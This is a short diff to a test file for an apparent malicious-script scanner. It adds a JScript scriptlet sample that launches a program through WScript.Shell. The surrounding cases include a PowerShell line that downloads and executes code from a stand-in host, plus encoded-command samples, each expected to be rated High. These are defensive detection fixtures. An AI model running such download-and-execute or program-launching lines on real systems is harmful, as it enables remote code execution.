@@ -59,6 +59,12 @@ describe('a script under its own name', () => {
       'iex (New-Object Net.WebClient).DownloadString("https://x.example/a")',
       'script-downloads',
     ],
+    [
+      'a scriptlet that starts a program',
+      'a.sct',
+      '<scriptlet><script language="JScript">new ActiveXObject("WScript.Shell").Run("a")</script></scriptlet>',
+      'scriptlet-runs-programs',
+    ],
     ['an encoded command', 'a.cmd', `@echo off\r\n${command}\r\n`, 'script-hidden-command'],
     ['an encoded script', 'a.vbe', '#@~^AAAAAA==abcdefgh^#~@', 'script-hidden-command'],
   ])('%s is High', async (_what, name, content, rule) => {
